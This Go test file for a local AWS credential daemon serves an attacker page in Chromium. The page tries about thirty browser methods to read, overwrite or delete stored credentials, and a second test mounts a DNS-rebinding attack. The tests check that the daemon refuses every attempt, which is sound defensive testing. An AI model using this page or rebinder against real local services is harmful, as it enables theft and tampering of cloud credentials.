//go:build unix

package attack_test

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"rolecall/internal/fakeaws"
	"rolecall/test/world"
)

// page is what an attacker serves. It tries every way a page has to reach
// another server at base ("" is its own origin), and reports what it could read.
// A way that shows nothing may have thrown, timed out or shown an opaque answer.
const page = `<!doctype html><meta name="referrer" content="no-referrer"><title>attack</title><body><script>
const base = %q, upload = JSON.stringify({ProfileName: "evil", Creds: {accessKeyId: "AKIAEVIL", secretAccessKey: "x", sessionToken: "x", expiration: 4102444800000}});
const tried = [], read = [];
const limit = (p) => Promise.race([p, new Promise(done => setTimeout(done, 4000))]);
async function way(name, f) {
	tried.push(name);
	try { const got = await limit(f()); if (got) read.push(name + ": " + got); } catch (e) {}
}
const text = async (r) => { const t = await r.text(); return t && (r.status + " " + t); };
const paths = ["/", "/creds", "/slot/prod", "/v1/credentials", "/source/profile:dev", "/slot", "/profile", "/metrics"];
function element(tag, set, look) {
	return new Promise(done => {
		const e = document.createElement(tag);
		e.onload = () => done(look ? look(e) : "");
		e.onerror = () => done("");
		set(e);
		document.body.append(e);
	});
}
const form = (method, type, path) => new Promise(done => {
	const f = document.createElement("form"), i = document.createElement("input"), frame = document.createElement("iframe");
	frame.name = "f" + Math.random();
	frame.onload = () => { try { done(frame.contentDocument.body.innerText) } catch (e) { done("") } };
	document.body.append(frame);
	f.method = method; f.enctype = type; f.action = base + path; f.target = frame.name;
	i.name = upload; i.value = "";
	f.append(i); document.body.append(f); f.submit();
});
(async () => {
	for (const p of paths) {
		await way("fetch cors " + p, async () => text(await fetch(base + p)));
		await way("fetch no-cors " + p, async () => text(await fetch(base + p, {mode: "no-cors"})));
	}
	await way("fetch with credentials", async () => text(await fetch(base + "/", {credentials: "include"})));
	await way("fetch keepalive", async () => text(await fetch(base + "/", {keepalive: true, cache: "reload"})));
	await way("fetch with a token", async () => text(await fetch(base + "/", {headers: {Authorization: "x"}})));
	await way("fetch PUT", async () => text(await fetch(base + "/slot/prod", {method: "PUT", body: upload})));
	await way("fetch PUT default", async () => text(await fetch(base + "/", {method: "PUT", body: upload})));
	await way("fetch DELETE", async () => text(await fetch(base + "/", {method: "DELETE"})));
	await way("fetch DELETE all", async () => text(await fetch(base + "/slot", {method: "DELETE"})));
	await way("fetch POST no-cors", async () => text(await fetch(base + "/", {method: "POST", mode: "no-cors", body: upload})));
	await way("XMLHttpRequest", () => new Promise((done, no) => { const x = new XMLHttpRequest(); x.onload = () => done(x.responseText); x.onerror = no; x.open("GET", base + "/"); x.send(); }));
	await way("image", () => element("img", e => e.src = base + "/", e => e.naturalWidth ? "an image" : ""));
	await way("script", () => element("script", e => e.src = base + "/", () => ""));
	await way("script JSON", () => element("script", e => e.src = base + "/slot", () => ""));
	await way("module", () => element("script", e => { e.type = "module"; e.src = base + "/"; }, () => ""));
	await way("stylesheet", () => element("link", e => { e.rel = "stylesheet"; e.href = base + "/"; }, e => { try { return [...e.sheet.cssRules].map(r => r.cssText).join() } catch (x) { return "" } }));
	await way("prefetch", () => element("link", e => { e.rel = "prefetch"; e.href = base + "/creds"; }));
	await way("object", () => element("object", e => e.data = base + "/", e => { try { return e.contentDocument.body.innerText } catch (x) { return "" } }));
	await way("audio", () => element("audio", e => { e.src = base + "/"; e.onloadeddata = e.onload; }));
	await way("iframe", () => element("iframe", e => e.src = base + "/", e => { try { return e.contentDocument.body.innerText } catch (x) { return "" } }));
	await way("form POST", () => form("POST", "application/x-www-form-urlencoded", "/"));
	await way("form POST text", () => form("POST", "text/plain", "/slot/prod"));
	await way("form GET", () => form("GET", "application/x-www-form-urlencoded", "/creds"));
	await way("form _method=PUT", () => form("POST", "text/plain", "/slot/prod?_method=PUT"));
	await way("WebSocket", () => new Promise((done, no) => { const s = new WebSocket((base || location.origin).replace("http", "ws") + "/"); s.onopen = () => done("open"); s.onmessage = m => done(m.data); s.onerror = no; }));
	await way("EventSource", () => new Promise((done, no) => { const s = new EventSource(base + "/"); s.onopen = () => done("open"); s.onmessage = m => done(m.data); s.onerror = () => { s.close(); no(); }; }));
	await way("sendBeacon", async () => { navigator.sendBeacon(base + "/slot/prod", upload); return ""; });
	await way("worker", () => new Promise((done, no) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('" + (base || location.origin) + "/').then(r => r.text()).then(postMessage, () => postMessage(''))"]))); w.onmessage = m => done(m.data); w.onerror = no; }));
	await fetch(%q, {method: "POST", mode: "no-cors", body: JSON.stringify({tried, read, location: location.href})});
})();
</script>`

// report is what a page says of its tries.
type report struct {
	Tried, Read []string
	Location    string
}

// browser runs Chromium on a page until the page has reported. It knows no name
// but localhost and those that maps has ("NAME ADDRESS"): it asks its maker's
// services from the start, whatever it is told.
func browser(t *testing.T, url string, reports <-chan report, maps ...string) report {
	t.Helper()
	names := "EXCLUDE localhost, EXCLUDE 127.0.0.*, "
	for _, m := range maps {
		names += "MAP " + m + ", "
	}
	cmd := world.Chromium(t, "--remote-debugging-port=0", "--host-resolver-rules="+names+"MAP * ~NOTFOUND", url)
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	var said strings.Builder
	cmd.Stderr = &said
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	ended := make(chan struct{})
	go func() { _ = cmd.Wait(); close(ended) }()
	defer func() {
		_ = syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL)
		<-ended
	}()
	select {
	case r := <-reports:
		return r
	case <-ended:
		if world.ChromiumCannot(said.String()) {
			t.Skipf("chromium does not run here: %.300s", said.String())
		}
		t.Fatalf("chromium ended: %.2000s", said.String())
	case <-time.After(90 * time.Second):
		t.Fatalf("the page has not reported after 90 s: %.2000s", said.String())
	}
	return report{}
}

// attackerSite serves the page, and takes its report.
func attackerSite(t *testing.T, ln net.Listener, base string) <-chan report {
	t.Helper()
	reports := make(chan report, 1)
	aside, err := net.Listen("tcp", "127.0.0.1:0") // for reports: the other address may lead elsewhere by then
	if err != nil {
		t.Fatal(err)
	}
	to := "http://" + aside.Addr().String() + "/report"
	mux := http.NewServeMux()
	mux.HandleFunc("/report", func(_ http.ResponseWriter, r *http.Request) {
		var got report
		b, _ := io.ReadAll(r.Body)
		if err := json.Unmarshal(b, &got); err == nil {
			select {
			case reports <- got:
			default:
			}
		}
	})
	mux.HandleFunc("/page", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		_, _ = fmt.Fprintf(w, page, base, to)
	})
	for _, l := range []net.Listener{ln, aside} {
		s := &http.Server{Handler: mux}
		go func() { _ = s.Serve(l) }()
		t.Cleanup(func() { _ = s.Close() })
	}
	return reports
}

// A page on another origin, in a real browser that the daemon's own user runs.
func TestPageInABrowser(t *testing.T) {
	t.Parallel()
	w := world.New(t, fakeaws.Config{})
	d := w.Serve("--load", "dev", "--slot", "prod=prod", "--metrics")
	works(t, d)
	filled(t, d, "prod")
	before := slots(t, d)
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	reports := attackerSite(t, ln, d.URL)
	got := browser(t, "http://"+ln.Addr().String()+"/page", reports)
	judge(t, d, got, before, 30, "foreign_header")
}

// A page whose name is made to lead to the daemon after it was loaded: to the
// browser, the daemon is then the page's own origin. Here the connection is led
// there by the attacker's own hand, which makes it one of the daemon's own user.
func TestReboundPageInABrowser(t *testing.T) {
	t.Parallel()
	w := world.New(t, fakeaws.Config{})
	d := w.Serve("--load", "dev", "--slot", "prod=prod", "--metrics")
	works(t, d)
	filled(t, d, "prod")
	before := slots(t, d)
	_, port, _ := net.SplitHostPort(d.Addr())
	front, err := net.Listen("tcp", "127.0.0.2:"+port)
	if err != nil {
		t.Skipf("127.0.0.2 cannot be listened at here: %v", err)
	}
	inner := &handed{conns: make(chan net.Conn), addr: front.Addr()}
	reports := attackerSite(t, inner, "")
	var wg sync.WaitGroup
	wg.Go(func() { rebind(front, inner, d.Addr(), &wg) })
	t.Cleanup(func() { _ = front.Close(); wg.Wait() })
	got := browser(t, "http://attacker.test:"+port+"/page", reports, "attacker.test 127.0.0.2")
	if !strings.HasPrefix(got.Location, "http://attacker.test:"+port) {
		t.Errorf("the page was at %s", got.Location)
	}
	judge(t, d, got, before, 30, "foreign_host")
}

// judge looks at what a page reported, and at what the daemon has to say. Error
// answers to a page's own origin are readable, and hold nothing.
func judge(t *testing.T, d *world.Daemon, got report, before string, tries int, outcome string) {
	t.Helper()
	for _, text := range got.Read {
		if credentials(text) || strings.Contains(text, " 200 ") || !strings.Contains(text, `"Code":"foreign_h`) {
			t.Errorf("the page read %.200q", text)
		}
	}
	if outcome == "foreign_header" && len(got.Read) != 0 {
		t.Errorf("the page read %d answers of another origin", len(got.Read))
	}
	if len(got.Tried) < tries {
		t.Errorf("the page tried %d ways: %q", len(got.Tried), got.Tried)
	}
	if after := slots(t, d); after != before {
		t.Errorf("the slots were %s and are %s", before, after)
	}
	works(t, d)
	if err := d.Stop(); err != nil {
		t.Error(err)
	}
	denied, let, so := 0, 0, 0
	for line := range strings.Lines(d.Log()) {
		var r struct{ Endpoint, Msg, Outcome, Agent string }
		if json.Unmarshal([]byte(line), &r) != nil || r.Endpoint != "ecs" || !strings.Contains(r.Agent, "Chrome") {
			continue
		}
		if r.Outcome == outcome {
			so++
		}
		if r.Msg == "denied" {
			denied++
		} else {
			let++
			t.Errorf("let in: %s", line)
		}
	}
	if denied < tries*2/3 || so < tries/3 {
		t.Errorf("%d tries of the browser are in the log, %d of them as %s", denied, so, outcome)
	}
	t.Logf("%d ways tried, %d requests denied by the daemon, %d let in; %d answers read, all of them refusals", len(got.Tried), denied, let, len(got.Read))
}

// handed is a listener that is given its connections.
type handed struct {
	conns chan net.Conn
	addr  net.Addr
	once  sync.Once
}

func (h *handed) Accept() (net.Conn, error) {
	c, ok := <-h.conns
	if !ok {
		return nil, net.ErrClosed
	}
	return c, nil
}
func (h *handed) Close() error   { h.once.Do(func() { close(h.conns) }); return nil }
func (h *handed) Addr() net.Addr { return h.addr }

// rebind hands the first connection that asks for the page to the attacker's
// site, and leads all later ones to the daemon.
func rebind(front net.Listener, site *handed, daemon string, wg *sync.WaitGroup) {
	served := false
	for {
		c, err := front.Accept()
		if err != nil {
			return
		}
		first := make([]byte, 4096)
		_ = c.SetReadDeadline(time.Now().Add(5 * time.Second))
		n, err := c.Read(first)
		if err != nil { // a connection in advance, which browsers like to make
			_ = c.Close()
			continue
		}
		_ = c.SetReadDeadline(time.Time{})
		if !served && strings.HasPrefix(string(first[:n]), "GET /page ") {
			served = true
			answerPage(c, site)
			continue
		}
		wg.Go(func() { lead(c, first[:n], daemon) })
	}
}

func answerPage(c net.Conn, site *handed) {
	to, from := net.Pipe()
	site.conns <- from
	go func() {
		defer func() { _ = c.Close(); _ = to.Close() }()
		_, _ = io.WriteString(to, "GET /page HTTP/1.1\r\nHost: attacker.test\r\nConnection: close\r\n\r\n")
		_, _ = io.Copy(c, to)
	}()
}

func lead(c net.Conn, first []byte, daemon string) {
	defer func() { _ = c.Close() }()
	var dialer net.Dialer
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	to, err := dialer.DialContext(ctx, "tcp", daemon)
	if err != nil {
		return
	}
	defer func() { _ = to.Close() }()
	if _, err := to.Write(first); err != nil {
		return
	}
	done := make(chan struct{}, 2)
	go func() { _, _ = io.Copy(to, c); done <- struct{}{} }()
	go func() { _, _ = io.Copy(c, to); done <- struct{}{} }()
	<-done
}
